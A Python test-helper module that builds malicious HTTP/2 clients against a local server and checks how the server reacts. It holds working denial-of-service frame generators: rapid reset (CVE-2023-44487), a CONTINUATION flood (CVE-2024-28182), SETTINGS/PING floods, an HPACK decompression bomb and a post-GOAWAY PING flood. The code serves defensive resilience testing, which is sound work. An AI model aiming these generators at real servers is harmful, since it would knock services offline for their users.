"""Malicious HTTP/2 clients over a real socket: raw frames from hyperframe/hpack (the ``h2``
library's own framing layers) so nothing on our side of the wire filters them."""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Iterable
from dataclasses import dataclass, field

import hpack
import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQ = [(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", "/echo")]


@dataclass
class Outcome:
    """What the attacker saw: whether the server closed, the GOAWAY codes, bytes it got in."""

    closed: bool = False
    reset: bool = False  # the end came as RST (ECONNRESET/EPIPE), not as the server's FIN
    goaway_codes: list[int] = field(default_factory=list)
    rst_streams: int = 0
    sent: int = 0
    received: int = 0
    seconds: float = 0.0


def headers_frame(stream_id: int, block: bytes, end_headers: bool = True, end_stream: bool = True) -> bytes:
    flags = [f for f, on in (("END_HEADERS", end_headers), ("END_STREAM", end_stream)) if on]
    f = hf.HeadersFrame(stream_id, flags=flags)
    f.data = block
    return f.serialize()


def hello() -> bytes:
    return PREFACE + hf.SettingsFrame(0).serialize()


class Attacker:
    """Writes a stream of chunks as fast as the server takes them, optionally never reading
    (flood without reading), and records how the server reacted, within a deadline."""

    def __init__(self, port: int, read: bool = True, rcvbuf: int | None = None) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:  # a peer that does not read: keep its kernel buffer small
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.read = read
        self.out = Outcome()
        self._buf = bytearray()

    def run(self, chunks: Iterable[bytes], deadline: float = 30.0, keep_open: bool = False) -> Outcome:
        """``keep_open``: the socket stays open for the caller (``keep_sending``), who closes it."""
        start = time.monotonic()
        end = start + deadline
        pending = memoryview(b"")
        it = iter(chunks)
        while not self.out.closed and time.monotonic() < end:
            if not pending:
                nxt = next(it, None)
                if nxt is None:
                    break
                pending = memoryview(nxt)
            r, w, _ = select.select([self.sock] if self.read else [], [self.sock], [], 0.5)
            if r:
                self._recv()
            if w and pending:
                try:
                    n = self.sock.send(pending)
                except (BrokenPipeError, ConnectionResetError):
                    self.out.closed = self.out.reset = True
                    break
                except BlockingIOError:
                    continue
                pending = pending[n:]
                self.out.sent += n
        # everything sent (or the server stopped us): read until it closes, bounded
        while not self.out.closed and time.monotonic() < end:
            r, _, _ = select.select([self.sock], [], [], 0.5)
            if r:
                self._recv()
        self.out.seconds = time.monotonic() - start
        if not keep_open:
            self.sock.close()
        return self.out

    def _recv(self) -> None:
        try:
            data = self.sock.recv(1 << 20)
        except BlockingIOError:
            return
        except ConnectionResetError:
            self.out.reset = True
            data = b""
        if not data:
            self.out.closed = True
            return
        self.out.received += len(data)
        self._buf += data
        while len(self._buf) >= 9:
            length = int.from_bytes(self._buf[:3], "big")
            if len(self._buf) < 9 + length:
                break
            ftype = self._buf[3]
            body = bytes(self._buf[9 : 9 + length])
            del self._buf[: 9 + length]
            if ftype == 0x7:  # GOAWAY: last stream id, error code
                self.out.goaway_codes.append(int.from_bytes(body[4:8], "big"))
            elif ftype == 0x3:
                self.out.rst_streams += 1


def goaway_codes(data: bytes) -> list[int]:
    """The error codes of the GOAWAY frames in a byte stream of whole frames (a partial last
    frame is ignored)."""
    codes, i = [], 0
    while i + 9 <= len(data):
        length = int.from_bytes(data[i : i + 3], "big")
        if i + 9 + length > len(data):
            break
        if data[i + 3] == 0x7:
            codes.append(int.from_bytes(data[i + 13 : i + 17], "big"))
        i += 9 + length
    return codes


def keep_sending(sock: socket.socket, deadline: float = 10.0) -> tuple[float, bool]:
    """After the server's GOAWAY (and FIN): go on sending PING frames without pause, as an
    attacker that wants to pin the connection would. Returns (seconds until the server
    reset the connection, whether it did within the deadline)."""
    ping = hf.PingFrame(0)
    ping.opaque_data = b"lingerer"
    chunk = ping.serialize() * 4096
    sock.setblocking(True)
    sock.settimeout(1.0)
    start = time.monotonic()
    while time.monotonic() - start < deadline:
        try:
            sock.send(chunk)
        except (BrokenPipeError, ConnectionResetError):
            return time.monotonic() - start, True
        except TimeoutError:
            continue  # the server stopped reading: its abort comes all the same
    return time.monotonic() - start, False


def assert_lingering_close(port: int, goaway_code: int) -> None:
    """An HPACK bomb, then the close: the GOAWAY (``goaway_code``) is followed by FIN, not by
    the RST a close() with megabytes of unread attack input makes the kernel send (which failed
    the attacker's next send before it read the GOAWAY); and it is bounded: an attacker that
    keeps sending after the FIN is reset within 5 s (FAILED_ABORT_SECONDS, 1 s, with slack for
    load)."""
    a = Attacker(port)
    try:
        out = a.run(hpack_bomb(5_000), deadline=30, keep_open=True)
        assert out.closed and out.goaway_codes == [goaway_code], out
        assert not out.reset, f"RST instead of FIN after the GOAWAY: {out}"
        seconds, reset = keep_sending(a.sock)
    finally:
        a.sock.close()
    assert reset, "the server let a lingering attacker keep the connection"
    assert seconds < 5, seconds


def rapid_reset(count: int) -> Iterable[bytes]:
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream (CVE-2023-44487)."""
    enc = hpack.Encoder()
    yield hello()
    batch = []
    for i in range(count):
        sid = 2 * i + 1
        batch.append(headers_frame(sid, enc.encode(REQ), end_stream=False))
        rst = hf.RstStreamFrame(sid)
        rst.error_code = 0x8
        batch.append(rst.serialize())
        if len(batch) >= 512:
            yield b"".join(batch)
            batch = []
    if batch:
        yield b"".join(batch)


def continuation_flood(count: int) -> Iterable[bytes]:
    """One HEADERS without END_HEADERS, then CONTINUATION frames forever (CVE-2024-28182):
    each carries a small valid header so the decoder keeps accepting them."""
    enc = hpack.Encoder()
    yield hello() + headers_frame(1, enc.encode(REQ), end_headers=False)
    one = hf.ContinuationFrame(1)
    for i in range(0, count, 256):
        frames = []
        for j in range(i, min(count, i + 256)):
            one.data = enc.encode([(f"x-c{j}", "v")])
            frames.append(one.serialize())
        yield b"".join(frames)


def control_flood(kind: str, count: int) -> Iterable[bytes]:
    """SETTINGS or PING frames, each demanding an ACK, from a peer that reads nothing."""
    if kind == "settings":
        frame = hf.SettingsFrame(0).serialize()
    else:
        ping = hf.PingFrame(0)
        ping.opaque_data = b"flooding"
        frame = ping.serialize()
    yield hello()
    chunk = frame * 4096
    for _ in range(count // 4096):
        yield chunk


def hpack_bomb(streams: int, refs: int = 30) -> Iterable[bytes]:
    """A 4 KiB header stored once in the HPACK table, then referenced ``refs`` times per
    request by a one-byte index: each ~40-byte header block decodes to ``refs`` x 4 KiB."""
    enc = hpack.Encoder()
    yield hello()
    bomb = [("x-bomb", "a" * 4000)]
    first = enc.encode(REQ + bomb * refs)  # stores the entry (and the pseudo-headers)
    again = enc.encode(REQ + bomb * refs)  # now all indexed; the table no longer changes
    batch = []
    for i in range(streams):
        batch.append(headers_frame(2 * i + 1, first if i == 0 else again))
        if len(batch) >= 256:
            yield b"".join(batch)
            batch = []
    if batch:
        yield b"".join(batch)
